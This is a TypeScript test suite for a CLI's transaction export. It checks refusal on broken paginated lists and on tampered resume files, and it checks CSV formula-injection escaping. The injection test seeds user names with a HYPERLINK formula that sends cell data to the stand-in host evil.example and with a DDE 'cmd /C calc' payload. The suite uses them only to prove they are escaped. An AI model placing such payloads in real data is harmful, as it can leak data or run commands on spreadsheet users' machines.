// `clara export` cannot end short or continue into a corrupt file: against the hostile Clara's broken lists (an
// empty page in the middle, a total that shrinks) it exits non-zero, says why and keeps what can be resumed; a
// resume state that does not match its file (each way one can be damaged) is refused with how to start over, the
// file untouched. And CSV cells from user-typed data cannot run as spreadsheet formulas.
import { startSandbox, type Sandbox } from '@org/clara-sandbox';
import { parse } from 'csv-parse/sync';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { LIST_ITEMS, startHostileClara, type HostileClara } from '../../clara/test/support/hostile-clara.js';
import { runCli } from '../src/program.js';
import type { ExportState } from '../src/export/state.js';
import { foreignCredentials } from './support/certificates.js';
import { captureIo } from './support/run-cli.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';

let hostile: HostileClara;
let sandbox: Sandbox;
let scratch: string;
let credentials: string;

beforeAll(async () => {
  scratch = mkdtempSync(join(tmpdir(), 'clara-cli-export-integrity-'));
  [hostile, sandbox] = await Promise.all([
    startHostileClara(),
    startSandbox({ country: 'mx', data: { users: [{ name: HYPERLINK, lastName: '@SUM(1+1)*cmd|" /C calc"!A0', email: 'ana@example.com.mx' }] }, dataMode: 'add' }),
  ]);
  // A project folder whose CA is the hostile Clara's (it asks for a client certificate without checking it).
  const project = join(scratch, 'hostile-project');
  mkdirSync(project);
  writeFileSync(join(project, 'client-credentials.json'), JSON.stringify({ clientId: 'hostile-client', clientSecret: 'hostile-client-secret' }));
  writeFileSync(join(project, 'ca-public-key.pem'), hostile.ca);
  credentials = foreignCredentials(project, scratch, 30);
}, 20_000);
afterAll(async () => {
  await Promise.all([hostile.close(), sandbox.close()]);
  rmSync(scratch, { recursive: true, force: true });
});

async function clara(...args: string[]) {
  const io = captureIo();
  const code = await runCli(args, io);
  return { code, ...io.output() };
}
const exportFrom = (scenario: string, ...args: string[]) =>
  clara('export', 'transactions', '--country', 'mx', '--credentials', credentials, '--base-url', `${hostile.url}/${scenario}`, ...args);
const lineCount = (file: string) => readFileSync(file, 'utf8').trimEnd().split('\n').length;

describe('lists that would end short', () => {
  it('an empty page in the middle: exit 1, the reason, the 300 records kept with their resume state', async () => {
    const out = join(scratch, 'gap.ndjson');
    const { code, stderr } = await exportFrom('empty-page', '--out', out);
    expect(code).toBe(1);
    expect(stderr).toContain("error: the export stopped after 300 transactions (3 pages) because Clara's list would lose or repeat items: ");
    expect(stderr).toContain('page 3 ends the list (0 of 100 items) but 10 pages were announced (totalPages)');
    expect(stderr).toContain(`; ${out} keeps them and its resume state: run the same command with --resume to continue from page 3.`);
    expect(stderr).not.toMatch(/^Exported/m);
    expect(lineCount(out)).toBe(300);
    expect(JSON.parse(readFileSync(`${out}.clara-export.json`, 'utf8'))).toMatchObject({ version: 2, nextPage: 3, items: 300, totalElements: LIST_ITEMS });

    const again = await exportFrom('empty-page', '--out', out, '--resume'); // the same page, the same refusal
    expect(again.code).toBe(1);
    expect(again.stderr).toContain('the export stopped after 300 transactions (3 pages)');
    expect(lineCount(out)).toBe(300);
  });

  it('a list whose total shrinks on the way: every page written, then exit 1 with the count it announced', async () => {
    const out = join(scratch, 'shrinking.ndjson');
    const { code, stderr } = await exportFrom('shrinking', '--out', out);
    expect(stderr.split('\n')[1]).toBe(
      'error: Clara announced 1000 transactions when the export started, and 950 were exported: the list changed while it was exported (its last page announced 950): items were added or removed, so some may be missing or repeated. Export again for a complete copy.',
    );
    expect(code).toBe(1);
    expect(lineCount(out)).toBe(950);
    expect((await exportFrom('shrinking')).code).toBe(1); // to stdout as well
  });
});

describe('a resume state that does not match its file is refused, the file untouched', () => {
  let original: { out: string; state: string };

  beforeAll(async () => {
    // A genuine unfinished export: the empty page stops it after 3 pages, its state kept.
    const out = join(scratch, 'genuine.csv');
    expect((await exportFrom('empty-page', '--out', out)).code).toBe(1);
    original = { out, state: `${out}.clara-export.json` };
  });

  /** A copy of the unfinished export, damaged by `damage`; the resume's outcome, and whether both files stayed as they were. */
  async function resumeDamaged(name: string, damage: (files: { out: string; state: string; recorded: ExportState }) => void) {
    const out = join(scratch, `${name}.csv`);
    const state = `${out}.clara-export.json`;
    copyFileSync(original.out, out);
    copyFileSync(original.state, state);
    damage({ out, state, recorded: JSON.parse(readFileSync(state, 'utf8')) as ExportState });
    const before = existsSync(out) ? readFileSync(out) : undefined;
    const stateBefore = readFileSync(state, 'utf8');
    hostile.paths.length = 0;
    const result = await exportFrom('empty-page', '--out', out, '--resume');
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`To start over, delete ${existsSync(out) ? `${out} and ` : ''}${state}, then run the command without --resume.\n`);
    expect(existsSync(out) ? readFileSync(out) : undefined).toEqual(before);
    expect(readFileSync(state, 'utf8')).toBe(stateBefore);
    expect(hostile.paths).toEqual([]); // refused before a request
    return result.stderr;
  }
  const rewrite = (state: string, recorded: ExportState, change: Partial<ExportState>) => writeFileSync(state, JSON.stringify({ ...recorded, ...change }));

  it('bytes past the end of the file', async () => {
    const stderr = await resumeDamaged('past-end', ({ state, recorded }) => rewrite(state, recorded, { bytes: recorded.bytes + 4096 }));
    expect(stderr).toMatch(/^error: --resume: \S+past-end\.csv is \d+ bytes, shorter than the \d+ bytes \S+ records as written: it was truncated or replaced\./);
  });

  it('a truncated file', async () => {
    const stderr = await resumeDamaged('truncated', ({ out, recorded }) => truncateSync(out, Math.floor(recorded.bytes / 2)));
    expect(stderr).toMatch(/shorter than the \d+ bytes \S+ records as written/);
  });

  it('a file edited in place (same length)', async () => {
    const stderr = await resumeDamaged('edited', ({ out }) => {
      const text = readFileSync(out, 'utf8');
      writeFileSync(out, text.replace('tx-150', 'tx-999'));
    });
    expect(stderr).toMatch(/the first \d+ bytes of \S+edited\.csv do not match the checksum in \S+: the file was changed since the interrupted run\./);
  });

  it('nextPage moved back or forward (pages would be repeated or skipped)', async () => {
    expect(await resumeDamaged('page-back', ({ state, recorded }) => rewrite(state, recorded, { nextPage: 2 }))).toMatch(
      /records 300 items in 2 pages of 100: continuing at page 2 would skip or repeat items\./,
    );
    expect(await resumeDamaged('page-forward', ({ state, recorded }) => rewrite(state, recorded, { nextPage: 4, items: 400 }))).toMatch(
      /page-forward\.csv holds 300 records where \S+ records 400\./,
    );
  });

  it('CSV columns edited, the file deleted, a state from an older clara', async () => {
    expect(await resumeDamaged('columns', ({ state, recorded }) => rewrite(state, recorded, { columns: ['uuid'] }))).toMatch(/does not start with the CSV header of the columns/);
    expect(await resumeDamaged('deleted', ({ out }) => rmSync(out))).toMatch(/^error: --resume: \S+deleted\.csv does not exist, but \S+ records \d+ bytes written to it\./);
    const old = join(scratch, 'old.csv');
    copyFileSync(original.out, old);
    writeFileSync(`${old}.clara-export.json`, JSON.stringify({ version: 1, export: {}, nextPage: 3, items: 300, bytes: 10 }));
    expect((await exportFrom('empty-page', '--out', old, '--resume')).stderr).toMatch(/is not the state of a clara export \(or one written by an older clara, without a checksum\): delete it to start over\./);
  });

  it('a torn last page (what a kill mid-write leaves) is still resumed', async () => {
    const out = join(scratch, 'torn.csv');
    copyFileSync(original.out, out);
    copyFileSync(original.state, `${out}.clara-export.json`);
    writeFileSync(out, 'tx-300,"half a rec', { flag: 'a' });
    const { code, stderr } = await exportFrom('empty-page', '--out', out, '--resume');
    expect(stderr).toContain('the export stopped after 300 transactions (3 pages)'); // resumed, met the empty page again
    expect(code).toBe(1);
    expect(readFileSync(out)).toEqual(readFileSync(original.out));
  });
});

describe('CSV injection', () => {
  it('user-typed cells that a spreadsheet would run are written as quoted text behind a single quote', async () => {
    const out = join(scratch, 'users.csv');
    const { code } = await clara('export', 'users', '--country', 'mx', '--credentials', sandbox.credentialsDir, '--base-url', sandbox.url, '--out', out);
    expect(code).toBe(0);
    const text = readFileSync(out, 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
    const [ana] = parse(text, { columns: true }) as Record<string, string>[];
    expect(ana).toMatchObject({ name: `'${HYPERLINK}`, lastName: `'@SUM(1+1)*cmd|" /C calc"!A0`, email: 'ana@example.com.mx' });
  });
});
